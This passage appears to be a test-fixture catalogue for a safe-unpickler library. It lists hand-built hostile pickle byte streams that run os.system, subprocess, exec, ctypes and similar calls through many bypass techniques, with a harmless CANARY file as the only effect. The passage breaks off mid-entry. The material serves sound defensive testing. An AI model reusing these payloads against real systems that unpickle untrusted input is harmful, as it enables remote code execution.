"""The bypass catalogue: hand-assembled hostile pickles that safepickle must refuse.

Every payload is written out as opcodes (never produced by ``pickle.dumps``), with a comment
saying what plain :func:`pickle.loads` would do with it. A payload that would have an effect only
ever creates a file (or directory, or socket) named ``CANARY`` in the current directory; the
tests run in a fresh temporary directory and assert that it never appears. ``live=True`` marks
payloads that ``test_hostile.py`` proves to be real exploits by running them under plain pickle in
a subprocess; the others say why they cannot be observed that way.

Conventions in the bytes below: ``touch CANARY`` is 12 bytes (``\\x0c``), ``open('CANARY','w')``
is 18 (``\\x12``), ``CANARY`` 6. ``_INNER`` is the smallest exploit (protocol 0, 31 bytes), used as
the argument of the nested loaders.
"""

from __future__ import annotations

from dataclasses import dataclass

from safepickle import (
    ForbiddenGlobal,
    LimitExceeded,
    MalformedPickle,
    SafePickleError,
    TruncatedPickle,
    UnsafeOpcode,
)

__all__ = ["CATALOGUE", "MODULES", "Payload", "by_id"]


@dataclass(frozen=True)
class Payload:
    """One hostile pickle and what safepickle must do with it.

    ``expect`` is the exception class every entry point must raise (a subclass is fine; the
    base :class:`SafePickleError` where more than one refusal is right). The remaining fields
    arrange the load: ``allow``/``limits``/``fix_imports`` are passed to it, ``modules`` are
    written to a directory on ``sys.path`` first, ``extension`` is registered with
    :func:`copyreg.add_extension` for the duration.
    """

    id: str
    data: bytes
    technique: str
    expect: type[SafePickleError]
    #: plain pickle creates CANARY with it (proved by the liveness test)
    live: bool = False
    #: why a payload is not live: an effect other than a file, or nothing to observe
    why_not_live: str = ""
    #: modules that must be importable for the liveness proof (skipped otherwise)
    needs: tuple[str, ...] = ()
    allow: tuple[str, ...] = ()
    limits: tuple[tuple[str, int], ...] = ()
    fix_imports: bool = True
    #: (module name, source) written next to the test before it runs
    modules: tuple[tuple[str, str], ...] = ()
    #: (module, name, code) registered in copyreg's extension registry during the test
    extension: tuple[str, str, int] | None = None
    #: a resource bomb: also assert bounded wall time and memory
    bomb: bool = False
    #: takes seconds when unfixed: exercised through ``loads`` only, to keep the suite quick
    heavy: bool = False
    #: only ``loads`` refuses it: a file reader stops at STOP and leaves the rest, like pickle
    loads_only: bool = False


# The smallest exploit, nested inside the loader payloads: os.system("touch CANARY").
_INNER = b"cos\nsystem\n(S'touch CANARY'\ntR."

# Modules the re-export and import-time payloads need; written to a temp dir at test time.
_MYMOD = (
    "mymod",
    "# A module someone allows with a wildcard; its re-exports must not ride on it.\n"
    "from os import system as run\n"
    "from pickle import loads\n"
    "from subprocess import call\n",
)
_CANARYMOD = (
    "canarymod",
    "# Importing this module is itself the exploit.\n"
    "open('CANARY', 'w').close()\n\n\n"
    "class Thing:\n"
    "    pass\n",
)
MODULES = dict((_MYMOD, _CANARYMOD))

_SETTLED = "returns normally under plain pickle too: nothing to observe as a file"


def _cartesian_globals(count: int, width: int) -> bytes:
    """``count`` module and ``count`` name strings, then a STACK_GLOBAL for every pair.

    Input grows as ``2 * count * width`` but the distinct global names as ``count**2 * width``.
    """
    parts = [b"\x80\x04"]
    for prefix, offset in ((b"m", 0), (b"n", count)):
        for i in range(count):
            text = prefix + b"%04d" % i + prefix * width
            parts.append(b"X" + len(text).to_bytes(4, "little") + text + b"r")
            parts.append((offset + i).to_bytes(4, "little") + b"0")
    for i in range(count):
        for j in range(count):
            module, name = i.to_bytes(4, "little"), (count + j).to_bytes(4, "little")
            parts.append(b"j" + module + b"j" + name + b"\x930")
    parts.append(b"N.")
    return b"".join(parts)


def _noise_long4(count: int, seed: int) -> bytes:
    """LONG4 of a ``count``-byte positive int with no structure for gcd to exploit (a linear
    congruential sequence): structured ints such as 2**n - 1 are cheap to reduce."""
    state, out = seed, bytearray()
    for _ in range(count):
        state = (state * 1103515245 + 12345) & 0x7FFFFFFF
        out.append(state >> 23)
    out.append(1)  # positive, and the top byte non-zero
    return b"\x8b" + len(out).to_bytes(4, "little") + bytes(out)


CATALOGUE: tuple[Payload, ...] = (
    # ---------------------------------------------------------------------------------------
    # Dangerous globals called directly, one opcode family and protocol at a time
    # ---------------------------------------------------------------------------------------
    # os.system("touch CANARY"): GLOBAL + MARK/STRING/TUPLE + REDUCE, pure protocol 0.
    Payload(
        id="os-system-global-reduce-p0",
        data=_INNER,
        technique="GLOBAL os.system called by REDUCE (protocol 0)",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # posix.system("touch CANARY") through INST, which calls the class with the marked items.
    Payload(
        id="posix-system-inst-p0",
        data=b"(S'touch CANARY'\niposix\nsystem\n.",
        technique="INST posix.system (INST calls a non-class callable too)",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # os.system twice (INST, then OBJ), each result POPped: the caller only ever sees None.
    Payload(
        id="inst-obj-pop-p0",
        data=b"(S'touch CANARY'\nios\nsystem\n0(cos\nsystem\nS'touch CANARY'\no0N.",
        technique="INST and OBJ calls whose results are POPped, returning None",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # os.system runs inside a MARK; POP_MARK then throws the whole segment away.
    Payload(
        id="pop-mark-discards-call-p0",
        data=b"(cos\nsystem\n(S'touch CANARY'\ntR1N.",
        technique="call made inside a MARK segment that POP_MARK discards",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # MARK immediately POPped (POP removes a MARK on top, as CPython does), then os.system.
    Payload(
        id="pop-removes-mark-p0",
        data=b"(0cos\nsystem\n(S'touch CANARY'\ntR.",
        technique="POP that pops a MARK before the call",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # One GLOBAL os.system, DUPed and called twice.
    Payload(
        id="dup-global-called-twice-p0",
        data=b"cos\nsystem\n2(S'touch CANARY'\ntR0(S'touch CANARY'\ntR.",
        technique="DUP of a dangerous global, called twice",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # os.system through STACK_GLOBAL whose operands are protocol-0 UNICODE lines (C accepts
    # STACK_GLOBAL at any protocol).
    Payload(
        id="stack-global-unicode-lines-p0",
        data=b"Vos\nVsystem\n\x93(Vtouch CANARY\ntR.",
        technique="STACK_GLOBAL with UNICODE-line operands inside a protocol-0 stream",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # eval("open('CANARY','w')") spelled __builtin__.eval: protocol 0 has no PROTO, so the
    # protocol-2 aliases of _compat_pickle apply.
    Payload(
        id="builtin-eval-alias-p0",
        data=b"c__builtin__\neval\n(Vopen('CANARY','w')\ntR.",
        technique="__builtin__.eval alias in a protocol-0 stream",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # posix.system("touch CANARY") with protocol 1 binary opcodes and a memo on every value.
    Payload(
        id="posix-system-binput-p1",
        data=b"cposix\nsystem\nq\x00(X\x0c\x00\x00\x00touch CANARYq\x01tq\x02Rq\x03.",
        technique="GLOBAL posix.system with BINPUT-memoized values (protocol 1)",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # subprocess.check_call(["touch", "CANARY"]) through OBJ (MARK cls args OBJ).
    Payload(
        id="subprocess-check-call-obj-p1",
        data=b"(csubprocess\ncheck_call\n](X\x05\x00\x00\x00touchX\x06\x00\x00\x00CANARYeo.",
        technique="OBJ subprocess.check_call with a list argument",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # subprocess.call(["touch", "CANARY"]) at protocol 2, everything memoized.
    Payload(
        id="subprocess-call-reduce-p2",
        data=(
            b"\x80\x02csubprocess\ncall\n]q\x00(X\x05\x00\x00\x00touchq\x01"
            b"X\x06\x00\x00\x00CANARYq\x02e\x85q\x03R."
        ),
        technique="REDUCE subprocess.call at protocol 2",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # open("CANARY", "w").
    Payload(
        id="builtins-open-p3",
        data=b"\x80\x03cbuiltins\nopen\nX\x06\x00\x00\x00CANARYX\x01\x00\x00\x00w\x86R.",
        technique="builtins.open for writing",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # io.FileIO("CANARY", "w").
    Payload(
        id="io-fileio-p3",
        data=b"\x80\x03cio\nFileIO\nX\x06\x00\x00\x00CANARYX\x01\x00\x00\x00w\x86R.",
        technique="io.FileIO for writing",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # subprocess.getstatusoutput("touch CANARY"): a shell command.
    Payload(
        id="subprocess-getstatusoutput-p3",
        data=b"\x80\x03csubprocess\ngetstatusoutput\nX\x0c\x00\x00\x00touch CANARY\x85R.",
        technique="subprocess.getstatusoutput shell command",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # os.popen("touch CANARY"): the shell runs asynchronously.
    Payload(
        id="os-popen-p3",
        data=b"\x80\x03cos\npopen\nX\x0c\x00\x00\x00touch CANARY\x85R.",
        technique="os.popen shell command",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # exec("open('CANARY','w')") through STACK_GLOBAL inside a FRAME, everything MEMOIZEd:
    # byte for byte what pickle.dumps writes at protocol 4.
    Payload(
        id="builtins-exec-framed-p4",
        data=(
            b"\x80\x04\x95\x2e\x00\x00\x00\x00\x00\x00\x00\x8c\x08builtins\x94\x8c\x04exec"
            b"\x94\x93\x94\x8c\x12open('CANARY','w')\x94\x85\x94R\x94."
        ),
        technique="STACK_GLOBAL builtins.exec inside a FRAME (protocol 4)",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # eval("open('CANARY','w')") at protocol 5.
    Payload(
        id="builtins-eval-p5",
        data=b"\x80\x05\x8c\x08builtins\x8c\x04eval\x93\x8c\x12open('CANARY','w')\x85R.",
        technique="STACK_GLOBAL builtins.eval (protocol 5)",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # exec(b"open('CANARY','w')") with the source as BINBYTES8.
    Payload(
        id="exec-binbytes8-p5",
        data=(
            b"\x80\x05\x8c\x08builtins\x8c\x04exec\x93"
            b"\x8e\x12\x00\x00\x00\x00\x00\x00\x00open('CANARY','w')\x85R."
        ),
        technique="builtins.exec of bytes source from BINBYTES8",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # exec(b"open('CANARY','w')") with the source passed through READONLY_BUFFER.
    Payload(
        id="exec-readonly-buffer-p5",
        data=b"\x80\x05\x8c\x08builtins\x8c\x04exec\x93C\x12open('CANARY','w')\x98\x85R.",
        technique="builtins.exec of source passed through READONLY_BUFFER",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # functools.partial(os.system, "touch CANARY") built by NEWOBJ (partial's work is all in
    # __new__), then called by REDUCE: the callable is a NEWOBJ result, not a global.
    Payload(
        id="partial-newobj-then-call-p2",
        data=b"\x80\x02cfunctools\npartial\ncos\nsystem\nX\x0c\x00\x00\x00touch CANARY\x86\x81)R.",
        technique="NEWOBJ functools.partial, then REDUCE on the NEWOBJ result",
        expect=UnsafeOpcode,
        live=True,
    ),
    # functools.partial(subprocess.call, args=["touch", "CANARY"]) by NEWOBJ_EX with keyword
    # arguments, then called.
    Payload(
        id="partial-newobj-ex-kwargs-p4",
        data=(
            b"\x80\x04\x8c\tfunctools\x8c\x07partial\x93\x8c\nsubprocess\x8c\x04call\x93\x85"
            b"}\x8c\x04args](\x8c\x05touch\x8c\x06CANARYes\x92)R."
        ),
        technique="NEWOBJ_EX functools.partial with kwargs, then REDUCE on the result",
        expect=UnsafeOpcode,
        live=True,
    ),
    # ---------------------------------------------------------------------------------------
    # Protocol-2 aliases that _compat_pickle maps, with and without fix_imports
    # ---------------------------------------------------------------------------------------
    # __builtin__.eval is builtins.eval once mapped.
    Payload(
        id="builtin-eval-alias-p2",
        data=b"\x80\x02c__builtin__\neval\nX\x12\x00\x00\x00open('CANARY','w')\x85R.",
        technique="__builtin__.eval alias (protocol 2, fix_imports=True)",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # The same stream loaded with fix_imports=False: __builtin__ is then a module name of its
    # own (on the floor); plain pickle's default (fix_imports=True) runs it.
    Payload(
        id="builtin-eval-alias-nofix-p2",
        data=b"\x80\x02c__builtin__\neval\nX\x12\x00\x00\x00open('CANARY','w')\x85R.",
        technique="__builtin__.eval alias loaded with fix_imports=False",
        expect=ForbiddenGlobal,
        live=True,
        fix_imports=False,
    ),
    # commands.getoutput is subprocess.getoutput once mapped.
    Payload(
        id="commands-getoutput-alias-p2",
        data=b"\x80\x02ccommands\ngetoutput\nX\x0c\x00\x00\x00touch CANARY\x85R.",
        technique="commands.getoutput alias of subprocess.getoutput",
        expect=ForbiddenGlobal,
        live=True,
    ),
    Payload(
        id="commands-getoutput-alias-nofix-p2",
        data=b"\x80\x02ccommands\ngetoutput\nX\x0c\x00\x00\x00touch CANARY\x85R.",
        technique="commands.getoutput alias loaded with fix_imports=False",
        expect=ForbiddenGlobal,
        live=True,
        fix_imports=False,
    ),
    # cPickle.loads(<os.system pickle>): cPickle is pickle once mapped.
    Payload(
        id="cpickle-loads-alias-p2",
        data=b"\x80\x02ccPickle\nloads\nC\x1f" + _INNER + b"\x85R.",
        technique="cPickle.loads alias: a nested unrestricted unpickle",
        expect=ForbiddenGlobal,
        live=True,
    ),
    Payload(
        id="cpickle-loads-alias-nofix-p2",
        data=b"\x80\x02ccPickle\nloads\nC\x1f" + _INNER + b"\x85R.",
        technique="cPickle.loads alias loaded with fix_imports=False",
        expect=ForbiddenGlobal,
        live=True,
        fix_imports=False,
    ),
    # copy_reg.add_extension("os", "system", 12345): registers os.system as extension code
    # 12345 in the process-wide registry, so any later EXT2 pickle anywhere calls os.system.
    Payload(
        id="copy-reg-add-extension-alias-p2",
        data=(
            b"\x80\x02ccopy_reg\nadd_extension\nX\x02\x00\x00\x00osX\x06\x00\x00\x00system"
            b"M90\x87R."
        ),
        technique="copy_reg.add_extension alias poisoning the extension registry",
        expect=ForbiddenGlobal,
        why_not_live="changes copyreg's process-wide registry; nothing is written",
    ),
    Payload(
        id="copy-reg-add-extension-alias-nofix-p2",
        data=(
            b"\x80\x02ccopy_reg\nadd_extension\nX\x02\x00\x00\x00osX\x06\x00\x00\x00system"
            b"M90\x87R."
        ),
        technique="copy_reg.add_extension alias loaded with fix_imports=False",
        expect=ForbiddenGlobal,
        why_not_live="changes copyreg's process-wide registry; nothing is written",
        fix_imports=False,
    ),
    # The same registration, then EXT2 12345 in the same stream: os.system("touch CANARY").
    Payload(
        id="copy-reg-add-extension-then-ext2-p2",
        data=(
            b"\x80\x02ccopy_reg\nadd_extension\nX\x02\x00\x00\x00osX\x06\x00\x00\x00system"
            b"M90\x87R0\x8390X\x0c\x00\x00\x00touch CANARY\x85R."
        ),
        technique="copy_reg.add_extension then EXT2 of the fresh code in one stream",
        expect=UnsafeOpcode,
        live=True,
    ),
    # __builtin__.reduce is functools.reduce: reduce(exec, [{}], src) is exec(src, {}).
    Payload(
        id="builtin-reduce-alias-exec-p2",
        data=(
            b"\x80\x02c__builtin__\nreduce\nc__builtin__\nexec\n]}a"
            b"X\x12\x00\x00\x00open('CANARY','w')\x87R."
        ),
        technique="__builtin__.reduce alias of functools.reduce calling exec",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # itertools.imap is builtins.map: list(imap(os.system, ["touch CANARY"])).
    Payload(
        id="itertools-imap-alias-p2",
        data=(
            b"\x80\x02c__builtin__\nlist\ncitertools\nimap\ncos\nsystem\n"
            b"]X\x0c\x00\x00\x00touch CANARYa\x86R\x85R."
        ),
        technique="itertools.imap alias of builtins.map, drained by list()",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # ---------------------------------------------------------------------------------------
    # Dotted names: attribute walks through modules, dunders, <locals>, module objects
    # ---------------------------------------------------------------------------------------
    # fnmatch imports os: GLOBAL "fnmatch" "os.system" after PROTO 4 walks to os.system.
    # (The id keeps its name: this went through pathlib.os, which 3.13's pathlib package
    # no longer has; fnmatch.os exists on every supported version.)
    Payload(
        id="pathlib-os-system-dotted-global-p4",
        data=b"\x80\x04cfnmatch\nos.system\nX\x0c\x00\x00\x00touch CANARY\x85R.",
        technique="dotted GLOBAL walking through an allowed module's os attribute",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # STACK_GLOBAL "uuid" "os.system": the same walk through another module.
    Payload(
        id="uuid-os-system-stack-global-p4",
        data=b"\x80\x04\x8c\x04uuid\x8c\x09os.system\x93\x8c\x0ctouch CANARY\x85R.",
        technique="dotted STACK_GLOBAL uuid.os.system",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # uuid.os.popen with allow=["uuid:*"]: the wildcard admits the public dotted name, the
    # attribute walk must still refuse to go through the os module.
    Payload(
        id="uuid-os-popen-under-wildcard-p4",
        data=b"\x80\x04\x8c\x04uuid\x8c\x08os.popen\x93\x8c\x0ctouch CANARY\x85R.",
        technique="module wildcard does not license a walk through a module attribute",
        expect=ForbiddenGlobal,
        live=True,
        allow=("uuid:*",),
    ),
    # tempfile imports os as _os: tempfile._os.system.
    Payload(
        id="tempfile-private-os-p4",
        data=b"\x80\x04\x8c\x08tempfile\x8c\x0a_os.system\x93\x8c\x0ctouch CANARY\x85R.",
        technique="walk through a private module alias (tempfile._os.system)",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # uuid._get_command_stdout("touch", "CANARY"): a stdlib helper that runs a command.
    Payload(
        id="uuid-private-command-runner-p4",
        data=b"\x80\x04\x8c\x04uuid\x8c\x13_get_command_stdout\x93\x8c\x05touch\x8c\x06CANARY\x86R.",
        technique="private stdlib helper that runs a command (uuid._get_command_stdout)",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # datetime imports sys: hands out sys.modules, a stepping stone to every loaded module.
    Payload(
        id="datetime-sys-modules-p4",
        data=b"\x80\x04\x8c\x08datetime\x8c\x0bsys.modules\x93.",
        technique="datetime.sys.modules: the module table through an allowed module",
        expect=ForbiddenGlobal,
        why_not_live="returns sys.modules to the caller; nothing is written",
    ),
    # copyreg.sys.modules: decided by name, before copyreg is looked at (it has no sys on
    # 3.11; older versions did).
    Payload(
        id="copyreg-sys-modules-p4",
        data=b"\x80\x04\x8c\x07copyreg\x8c\x0bsys.modules\x93.",
        technique="copyreg.sys.modules decided by name before any lookup",
        expect=ForbiddenGlobal,
        why_not_live="copyreg has no sys attribute on this Python; decided by name anyway",
    ),
    # object.__subclasses__(): every class in the process, the classic sandbox escape.
    Payload(
        id="object-subclasses-p4",
        data=b"\x80\x04\x8c\x08builtins\x8c\x15object.__subclasses__\x93)R.",
        technique="builtins.object.__subclasses__ dunder walk",
        expect=ForbiddenGlobal,
        why_not_live="returns a list of classes; nothing is written",
    ),
    # __main__.__builtins__ is the builtins module in a script: __builtins__.exec(src).
    Payload(
        id="main-builtins-exec-p4",
        data=(
            b"\x80\x04\x8c\x08__main__\x8c\x11__builtins__.exec\x93"
            b"\x8c\x12open('CANARY','w')\x85R."
        ),
        technique="__builtins__ traversal from __main__",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # uuid.getnode.__globals__: uuid's namespace dict (which holds os, subprocess helpers...).
    Payload(
        id="function-globals-p4",
        data=b"\x80\x04\x8c\x04uuid\x8c\x13getnode.__globals__\x93.",
        technique="__globals__ traversal from an allowed module's function",
        expect=ForbiddenGlobal,
        why_not_live="returns a namespace dict; nothing is written",
    ),
    # A <locals> qualname: names something pickle itself refuses to look up.
    Payload(
        id="locals-qualname-p4",
        data=b"\x80\x04\x8c\x04uuid\x8c\x12getnode.<locals>.x\x93.",
        technique="<locals> in a qualified name",
        expect=ForbiddenGlobal,
        why_not_live="plain pickle refuses <locals> itself",
    ),
    # pathlib.os: a module object handed to the caller.
    Payload(
        id="module-object-p4",
        data=b"\x80\x04\x8c\x07pathlib\x8c\x02os\x93.",
        technique="dotted name that resolves to a module object",
        expect=ForbiddenGlobal,
        why_not_live="returns the os module; nothing is written",
    ),
    # ---------------------------------------------------------------------------------------
    # Trampolines: harmless-looking callables that reach a dangerous one
    # ---------------------------------------------------------------------------------------
    # pkgutil.resolve_name("os:system")("touch CANARY"): the second call is on a REDUCE result.
    Payload(
        id="pkgutil-resolve-name-chain-p4",
        data=(
            b"\x80\x04\x8c\x07pkgutil\x8c\x0cresolve_name\x93\x8c\x09os:system\x85R"
            b"\x8c\x0ctouch CANARY\x85R."
        ),
        technique="pkgutil.resolve_name result called by a second REDUCE",
        expect=UnsafeOpcode,
        live=True,
    ),
    # list(map(pydoc.locate("os.system"), ["touch CANARY"])): every REDUCE calls a global;
    # the computed callable travels as map's argument.
    Payload(
        id="pydoc-locate-through-map-p4",
        data=(
            b"\x80\x04\x8c\x08builtins\x8c\x04list\x93\x8c\x08builtins\x8c\x03map\x93"
            b"\x8c\x05pydoc\x8c\x06locate\x93\x8c\x09os.system\x85R"
            b"]\x8c\x0ctouch CANARYa\x86R\x85R."
        ),
        technique="pydoc.locate result called through builtins.map",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # pydoc.pipepager("", "touch CANARY"): pipes text into a shell command.
    Payload(
        id="pydoc-pipepager-p4",
        data=b"\x80\x04\x8c\x05pydoc\x8c\x09pipepager\x93\x8c\x00\x8c\x0ctouch CANARY\x86R.",
        technique="pydoc.pipepager shell command",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # list(map(operator.methodcaller("touch"), [pathlib.Path("CANARY")])).
    Payload(
        id="operator-methodcaller-map-p4",
        data=(
            b"\x80\x04\x8c\x08builtins\x8c\x04list\x93\x8c\x08builtins\x8c\x03map\x93"
            b"\x8c\x08operator\x8c\x0cmethodcaller\x93\x8c\x05touch\x85R"
            b"]\x8c\x07pathlib\x8c\x04Path\x93\x8c\x06CANARY\x85Ra\x86R\x85R."
        ),
        technique="operator.methodcaller applied by builtins.map",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # operator.attrgetter("touch")(pathlib.Path("CANARY"))(): two calls on REDUCE results.
    Payload(
        id="operator-attrgetter-chain-p4",
        data=(
            b"\x80\x04\x8c\x08operator\x8c\x0aattrgetter\x93\x8c\x05touch\x85R"
            b"\x8c\x07pathlib\x8c\x04Path\x93\x8c\x06CANARY\x85R\x85R)R."
        ),
        technique="operator.attrgetter result called, then the bound method called",
        expect=UnsafeOpcode,
        live=True,
    ),
    # list(map(dict.get(vars(fnmatch.os), "system"), ["touch CANARY"])) (fnmatch.os, not
    # pathlib.os: 3.13's pathlib package has no os attribute).
    Payload(
        id="vars-dict-get-map-p4",
        data=(
            b"\x80\x04\x8c\x08builtins\x8c\x04list\x93\x8c\x08builtins\x8c\x03map\x93"
            b"\x8c\x08builtins\x8c\x08dict.get\x93\x8c\x08builtins\x8c\x04vars\x93"
            b"\x8c\x07fnmatch\x8c\x02os\x93\x85R\x8c\x06system\x86R"
            b"]\x8c\x0ctouch CANARYa\x86R\x85R."
        ),
        technique="builtins.vars of a module plus dict.get, called through map",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # list(map(operator.methodcaller("system", "touch CANARY"), [importlib.import_module("os")])).
    Payload(
        id="importlib-import-module-p4",
        data=(
            b"\x80\x04\x8c\x08builtins\x8c\x04list\x93\x8c\x08builtins\x8c\x03map\x93"
            b"\x8c\x08operator\x8c\x0cmethodcaller\x93\x8c\x06system\x8c\x0ctouch CANARY\x86R"
            b"]\x8c\x09importlib\x8c\x0dimport_module\x93\x8c\x02os\x85Ra\x86R\x85R."
        ),
        technique="importlib.import_module of os, method called by methodcaller",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # builtins.__import__("os"), then .system("touch CANARY") by methodcaller through map.
    Payload(
        id="dunder-import-p4",
        data=(
            b"\x80\x04\x8c\x08builtins\x8c\x04list\x93\x8c\x08builtins\x8c\x03map\x93"
            b"\x8c\x08operator\x8c\x0cmethodcaller\x93\x8c\x06system\x8c\x0ctouch CANARY\x86R"
            b"]\x8c\x08builtins\x8c\x0a__import__\x93\x8c\x02os\x85Ra\x86R\x85R."
        ),
        technique="builtins.__import__ of os",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # functools.reduce(exec, [{}], src): exec(src, {}).
    Payload(
        id="functools-reduce-exec-p3",
        data=(
            b"\x80\x03cfunctools\nreduce\ncbuiltins\nexec\n]}a"
            b"X\x12\x00\x00\x00open('CANARY','w')\x87R."
        ),
        technique="functools.reduce calling builtins.exec",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # runpy._run_code(src, {}): exec under another name.
    Payload(
        id="runpy-run-code-p3",
        data=b"\x80\x03crunpy\n_run_code\nX\x12\x00\x00\x00open('CANARY','w')}\x86R.",
        technique="runpy._run_code executes source",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # code.InteractiveInterpreter.runsource(code.InteractiveInterpreter(), src).
    Payload(
        id="code-interactive-interpreter-p4",
        data=(
            b"\x80\x04\x8c\x04code\x8c\x20InteractiveInterpreter.runsource\x93"
            b"\x8c\x04code\x8c\x16InteractiveInterpreter\x93)R"
            b"\x8c\x12open('CANARY','w')\x86R."
        ),
        technique="code.InteractiveInterpreter.runsource as an unbound method",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # timeit.timeit(src, "pass", time.perf_counter, 1).
    Payload(
        id="timeit-p3",
        data=(
            b"\x80\x03ctimeit\ntimeit\n(X\x12\x00\x00\x00open('CANARY','w')"
            b"X\x04\x00\x00\x00passctime\nperf_counter\nK\x01tR."
        ),
        technique="timeit.timeit executes its statement",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # cProfile.run(src).
    Payload(
        id="cprofile-run-p3",
        data=b"\x80\x03ccProfile\nrun\nX\x12\x00\x00\x00open('CANARY','w')\x85R.",
        technique="cProfile.run executes its statement",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # types.FunctionType(compile(src, "", "exec"), {})(): the final call is on a REDUCE result.
    Payload(
        id="types-functiontype-chain-p4",
        data=(
            b"\x80\x04\x8c\x05types\x8c\x0cFunctionType\x93\x8c\x08builtins\x8c\x07compile\x93"
            b"\x8c\x12open('CANARY','w')\x8c\x00\x8c\x04exec\x87R}\x86R)R."
        ),
        technique="types.FunctionType around compiled code, then called",
        expect=UnsafeOpcode,
        live=True,
    ),
    # exec(types.CodeType.replace(compile(src, "", "exec"))).
    Payload(
        id="types-codetype-replace-exec-p4",
        data=(
            b"\x80\x04\x8c\x08builtins\x8c\x04exec\x93\x8c\x05types\x8c\x10CodeType.replace\x93"
            b"\x8c\x08builtins\x8c\x07compile\x93\x8c\x12open('CANARY','w')\x8c\x00\x8c\x04exec"
            b"\x87R\x85R\x85R."
        ),
        technique="types.CodeType.replace on a compiled code object, then exec",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # exec(marshal.loads(b"z\x12open('CANARY','w')")): marshal's short-ASCII str, stable
    # across Python versions (unlike marshalled code).
    Payload(
        id="marshal-loads-exec-p4",
        data=(
            b"\x80\x04\x8c\x08builtins\x8c\x04exec\x93\x8c\x07marshal\x8c\x05loads\x93"
            b"C\x14z\x12open('CANARY','w')\x85R\x85R."
        ),
        technique="marshal.loads feeding builtins.exec",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # ctypes.pythonapi.PyRun_SimpleString(b"open('CANARY','w')"): the C API, by attribute walk.
    Payload(
        id="ctypes-pythonapi-p4",
        data=(
            b"\x80\x04\x8c\x06ctypes\x8c\x1cpythonapi.PyRun_SimpleString\x93"
            b"C\x12open('CANARY','w')\x85R."
        ),
        technique="ctypes.pythonapi.PyRun_SimpleString",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # weakref.finalize(set(), os.system, "touch CANARY"): the set dies at once and the
    # finalizer runs os.system, after the call that created it returned.
    Payload(
        id="weakref-finalize-p4",
        data=(
            b"\x80\x04\x8c\x07weakref\x8c\x08finalize\x93\x8c\x08builtins\x8c\x03set\x93)R"
            b"\x8c\x02os\x8c\x06system\x93\x8c\x0ctouch CANARY\x87R."
        ),
        technique="weakref.finalize deferring os.system to garbage collection",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # atexit.register(os.system, "touch CANARY"): runs when the process exits.
    Payload(
        id="atexit-register-p4",
        data=(
            b"\x80\x04\x8c\x06atexit\x8c\x08register\x93\x8c\x02os\x8c\x06system\x93"
            b"\x8c\x0ctouch CANARY\x86R."
        ),
        technique="atexit.register deferring os.system to interpreter exit",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # webbrowser.GenericBrowser.open(webbrowser.GenericBrowser("touch"), "CANARY"): runs the
    # "browser" command with the URL as argument.
    Payload(
        id="webbrowser-generic-browser-p4",
        data=(
            b"\x80\x04\x8c\x0awebbrowser\x8c\x13GenericBrowser.open\x93"
            b"\x8c\x0awebbrowser\x8c\x0eGenericBrowser\x93\x8c\x05touch\x85R\x8c\x06CANARY\x86R."
        ),
        technique="webbrowser.GenericBrowser.open runs a command",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # webbrowser.open("file:///CANARY"): launches whatever browser the machine has.
    Payload(
        id="webbrowser-open-p3",
        data=b"\x80\x03cwebbrowser\nopen\nX\x0e\x00\x00\x00file:///CANARY\x85R.",
        technique="webbrowser.open launches a browser",
        expect=ForbiddenGlobal,
        why_not_live="launches the desktop browser (if any); no file is written",
    ),
    # socket.socket.bind(socket.socket(AF_UNIX), "CANARY"): binding creates a socket file.
    Payload(
        id="socket-unix-bind-p4",
        data=(
            b"\x80\x04\x8c\x06socket\x8c\x0bsocket.bind\x93\x8c\x06socket\x8c\x06socket\x93"
            b"K\x01\x85R\x8c\x06CANARY\x86R."
        ),
        technique="socket.socket bound to a Unix path",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # http.client.HTTPConnection("127.0.0.1", 9).connect(): an outbound connection.
    Payload(
        id="http-client-connect-p4",
        data=(
            b"\x80\x04\x8c\x0bhttp.client\x8c\x16HTTPConnection.connect\x93"
            b"\x8c\x0bhttp.client\x8c\x0eHTTPConnection\x93\x8c\x09127.0.0.1K\x09\x86R\x85R."
        ),
        technique="http.client connection to an attacker's host",
        expect=ForbiddenGlobal,
        why_not_live="opens a TCP connection; no file is written",
    ),
    # urllib.request.urlretrieve("data:,x", "CANARY"): fetches a URL into a file.
    Payload(
        id="urllib-urlretrieve-p4",
        data=(
